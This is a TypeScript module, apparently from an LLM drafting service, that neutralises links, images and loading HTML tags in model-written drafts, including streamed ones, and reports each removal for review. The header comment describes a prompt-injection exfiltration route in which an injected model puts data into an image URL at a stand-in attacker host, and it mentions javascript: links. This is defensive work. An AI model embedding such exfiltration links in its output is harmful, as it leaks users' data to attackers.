/**
 * Links and images in a draft are an exfiltration path: a renderer fetches
 * `![x](https://attacker.example/c.png?k=…)` on its own, carrying whatever a prompt injection made
 * the model put in the query string (or, copied from the input, telling its owner who read the
 * draft and when), and a `javascript:` link runs in the reader's page. So a draft keeps:
 * - no image from another site (a relative one, served by whoever renders the draft, stays), nor
 *   raw HTML that loads something (`<img>`, `<iframe>`, ...);
 * - links only to hosts the input names, relative links and `mailto:`; never `javascript:`,
 *   `data:` or any other scheme.
 * An image becomes `[image removed]`, a link its text, a reference definition `#`; each is
 * reported (kind `LINK`) beside the grounding issues, so a reviewer sees what went.
 *
 * Streamed drafts are neutralised as they stream: text that might start a link or image (`[`,
 * `![`, `<`) is held until its paragraph ends, since neither spans a blank line, so the deltas
 * still concatenate to exactly the final text.
 */
import type { GroundingIssueRecord } from '../../infra/store/generations.js';

/** The hosts the input names: links to them may stay. */
export function vouchedHostsOf(input: unknown): ReadonlySet<string> {
  const inputJson = JSON.stringify(input) ?? '';
  const hosts = new Set<string>();
  for (const match of inputJson.matchAll(/(?:https?:)?\/\/[^\s"'<>()[\]\\]+/gi)) {
    const host = hostOf(match[0]);
    if (host) hosts.add(host);
  }
  return hosts;
}

function hostOf(url: string): string | null {
  try {
    return new URL(url.startsWith('//') ? `https:${url}` : url).hostname.toLowerCase();
  } catch {
    return null;
  }
}

/** `![alt](dest "title")` or `[text](dest)`; the text may hold one level of brackets. */
const INLINE =
  /(!?)\[((?:[^[\]]|\[[^[\]]*\])*)\]\(\s*(<[^<>\n]*>|(?:[^\s()]|\([^\s()]*\))*)(?:\s+(?:"[^"]*"|'[^']*'|\([^()]*\)))?\s*\)/g;
/** `[id]: dest`, which `![x][id]` and `[x][id]` point to. */
const REFERENCE = /^( {0,3}\[[^\]\n]+\]:[ \t]*)(<[^<>\n]*>|\S+)/gm;
/** `<https://…>`, `<javascript:…>`. */
const AUTOLINK = /<([a-z][a-z0-9+.-]{1,31}:[^\s<>]*)>/gi;
/** Raw HTML that fetches something by itself. */
const LOADING_TAG =
  /<\s*\/?\s*(?:img|image|picture|source|video|audio|iframe|embed|object|svg|script|link)\b[^>]*>?/gi;

/** Text that may start a construct above: held until its paragraph is complete. */
const MAY_START = /!?\[|<|!$/;

const ENTITIES: Readonly<Record<string, string>> = {
  colon: ':',
  sol: '/',
  bsol: '\\',
  tab: '',
  newline: '',
};

/** The destination as a browser would read it: entities decoded, `<>` off, no whitespace or controls, `\` as `/`. */
function destinationOf(raw: string): string {
  return raw
    .replace(/^<|>$/g, '')
    .replace(
      /&#x([0-9a-f]+);?|&#(\d+);?|&([a-z]+);/gi,
      (entity, hex: string, dec: string, name: string) => {
        if (!hex && !dec) return ENTITIES[name.toLowerCase()] ?? entity;
        const code = hex ? parseInt(hex, 16) : Number(dec);
        // `&#99999999;` is no character: left as written (fromCodePoint would throw).
        return code <= 0x10ffff ? String.fromCodePoint(code) : entity;
      },
    )
    .replace(/[\s\p{Cc}]+/gu, '')
    .replace(/\\/g, '/');
}

export class LinkNeutraliser {
  private held = '';
  private readonly found = new Map<string, GroundingIssueRecord>();

  constructor(private readonly hosts: ReadonlySet<string>) {}

  /** What was removed, once each. */
  get issues(): GroundingIssueRecord[] {
    return [...this.found.values()];
  }

  /**
   * The part of what has arrived that is final now: whole paragraphs, and text no link can start in.
   * The runner calls it on each delta in its own loop (no async generator layer of its own, which
   * every open stream would hold as one more suspended frame).
   */
  push(delta: string): string {
    this.held += delta;
    let ready = '';
    const paragraphEnd = this.held.lastIndexOf('\n\n');
    if (paragraphEnd >= 0) {
      ready = this.neutralise(this.held.slice(0, paragraphEnd + 2));
      this.held = this.held.slice(paragraphEnd + 2);
    }
    const start = this.held.search(MAY_START);
    const safe = start < 0 ? this.held.length : start;
    ready += this.held.slice(0, safe);
    this.held = this.held.slice(safe);
    return ready;
  }

  /** What is still held, neutralised: released before the answer's `finish` and at its end. */
  flush(): string {
    const rest = this.neutralise(this.held);
    this.held = '';
    return rest;
  }

  private neutralise(text: string): string {
    return text
      .replace(LOADING_TAG, (tag) => {
        this.report(tag);
        return '[image removed]';
      })
      .replace(INLINE, (whole, bang: string, label: string, raw: string) => {
        const image = bang === '!';
        if (this.vouchesFor(destinationOf(raw), image)) return whole;
        this.report(raw);
        return image ? '[image removed]' : label;
      })
      .replace(REFERENCE, (whole, head: string, raw: string) => {
        if (this.vouchesFor(destinationOf(raw), true)) return whole;
        this.report(raw);
        return `${head}#`;
      })
      .replace(AUTOLINK, (whole, raw: string) => {
        if (this.vouchesFor(destinationOf(raw), false)) return whole;
        this.report(raw);
        return '[link removed]';
      });
  }

  /** Whether `destination` may stay: relative, or a link to a host the input names, or `mailto:`. */
  private vouchesFor(destination: string, image: boolean): boolean {
    const scheme = /^([a-z][a-z0-9+.-]*):/i.exec(destination)?.[1]?.toLowerCase();
    if (scheme === undefined && !destination.startsWith('//')) return true;
    if (image) return false;
    if (scheme === 'mailto') return true;
    if (scheme !== undefined && scheme !== 'http' && scheme !== 'https') return false;
    const host = hostOf(destination);
    return host !== null && this.hosts.has(host);
  }

  private report(value: string): void {
    const shown = value.length > 200 ? `${value.slice(0, 199)}…` : value;
    this.found.set(shown, { kind: 'LINK', value: shown });
  }
}
